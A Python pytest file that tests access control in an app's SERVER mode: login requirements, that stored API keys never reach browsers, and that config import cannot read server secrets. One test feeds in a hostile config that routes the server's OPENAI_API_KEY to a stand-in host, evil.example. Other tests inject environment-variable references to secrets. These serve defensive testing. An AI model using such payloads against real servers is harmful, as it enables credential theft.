"""SERVER mode requires a login (issue #11), and only a signed-in admin gets secrets over HTTP."""

from __future__ import annotations

import os
import re

import pytest

from calango.extensions import db
from calango.models import Provider
from calango.services.config_io import ConfigImportError, import_config
from config import ConfigError, ServerConfig, config_from_env
from tests.accounts_helpers import login_as, make_user
from tests.security.conftest import (
    set_server_env,
)

SECRET = "sk-SECRET-stored-4242"


def test_server_starts_without_any_open_server_consent(monkeypatch, tmp_path):
    set_server_env(monkeypatch, tmp_path)
    assert "CALANGO_ALLOW_OPEN_SERVER" not in os.environ
    assert isinstance(config_from_env(), ServerConfig)


def test_server_requires_login(app, client):
    app.config.update(MODE="SERVER")
    response = client.get("/settings/config")
    assert response.status_code == 302
    assert response.headers["Location"] == "/login?next=/settings/config"
    assert client.get("/settings/config/export").status_code == 302


def test_server_config_keeps_secrets_off_http_for_anonymous(monkeypatch, tmp_path):
    set_server_env(monkeypatch, tmp_path)
    config = config_from_env()
    assert isinstance(config, ServerConfig)
    assert config.SECRETS_OVER_HTTP is False


@pytest.fixture
def server_app(app, client):
    """The test app as a SERVER instance runs it, ``client`` signed in as a plain user (the
    page's secrets rules; the pages themselves may be admin-only)."""
    app.config.update(MODE="SERVER", SECRETS_OVER_HTTP=ServerConfig.SECRETS_OVER_HTTP)
    login_as(client, make_user(app, "user@example.com"))
    return app


@pytest.fixture
def admin_app(app, client):
    """SERVER, ``client`` signed in as an admin (who manages providers but never sees a key)."""
    app.config.update(MODE="SERVER", SECRETS_OVER_HTTP=ServerConfig.SECRETS_OVER_HTTP)
    login_as(client, make_user(app, "admin@example.com", admin=True))
    return app


def _seed_key() -> None:
    provider = Provider(name="groq", kind="openai", base_url="https://api.groq.com/openai/v1")
    provider.set_api_key(SECRET)
    db.session.add(provider)
    db.session.commit()


def test_server_user_gets_no_config_page_nor_keys(server_app, app, client, csrf):
    with app.app_context():
        _seed_key()
    assert client.get("/settings/config").status_code == 403
    response = client.post(
        "/settings/config/export", data={"csrf_token": csrf, "with_secrets": "y"}
    )
    assert response.status_code == 403
    assert SECRET not in response.get_data(as_text=True)
    response = client.get("/settings/config/export")
    assert response.status_code == 403 and SECRET not in response.get_data(as_text=True)


def test_server_refusal_is_translated(server_app, app, client):
    page = client.get("/settings/config", headers={"Accept-Language": "pt-BR"})
    assert page.status_code == 403
    assert "Só um administrador" in page.get_data(as_text=True)


def test_the_cli_still_exports_keys_on_a_server(server_app, app, runner):
    with app.app_context():
        _seed_key()
    args = ["calango", "export-config", "--with-secrets", "--user", "user@example.com"]
    result = runner.invoke(args=args)
    assert result.exit_code == 0
    assert SECRET in result.stdout


def test_server_user_cannot_import(server_app, app, client, csrf, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-server-own-key")
    text = "providers:\n  evil:\n    api_key: ${OPENAI_API_KEY}\n    base_url: https://evil.example/v1\n"
    response = client.post("/settings/config/import", data={"csrf_token": csrf, "text": text})
    assert response.status_code == 403
    with app.app_context():
        assert db.session.scalar(Provider.select_all()) is None


@pytest.mark.parametrize(
    "variable", ["CALANGO_ENCRYPTION_KEY", "SECRET_KEY", "DATABASE_URL", "CALANGO_HOME"]
)
@pytest.mark.parametrize("form", ["${%s}", "$%s", "prefix-${%s}"])
def test_import_cannot_read_server_secrets(app_ctx, monkeypatch, variable, form):
    monkeypatch.setenv(variable, "the-server-secret")
    text = f"providers:\n  x:\n    api_key: '{form % variable}'\n"
    with pytest.raises(ConfigImportError) as info:
        import_config(text)
    assert "providers.x.api_key" in str(info.value) and "line 3" in str(info.value)
    assert db.session.scalar(Provider.select_all()) is None


def test_import_env_may_not_list_server_secrets(monkeypatch, tmp_path):
    monkeypatch.setenv("CALANGO_HOME", str(tmp_path))
    monkeypatch.delenv("CALANGO_MODE", raising=False)
    for name in ("SECRET_KEY", "CALANGO_ENCRYPTION_KEY", "DATABASE_URL"):
        monkeypatch.setenv("CALANGO_IMPORT_ENV", f"MY_TOKEN, {name}")
        with pytest.raises(ConfigError, match=re.escape(name)):
            config_from_env()


def test_server_admin_gets_no_keys_either(admin_app, app, client, csrf):
    # Providers are the admins' to manage, but a stored key never reaches a browser.
    with app.app_context():
        _seed_key()
    page = client.get("/settings/config").get_data(as_text=True)
    assert 'name="with_secrets"' not in page
    response = client.post(
        "/settings/config/export", data={"csrf_token": csrf, "with_secrets": "y"}
    )
    assert SECRET not in response.get_data(as_text=True)
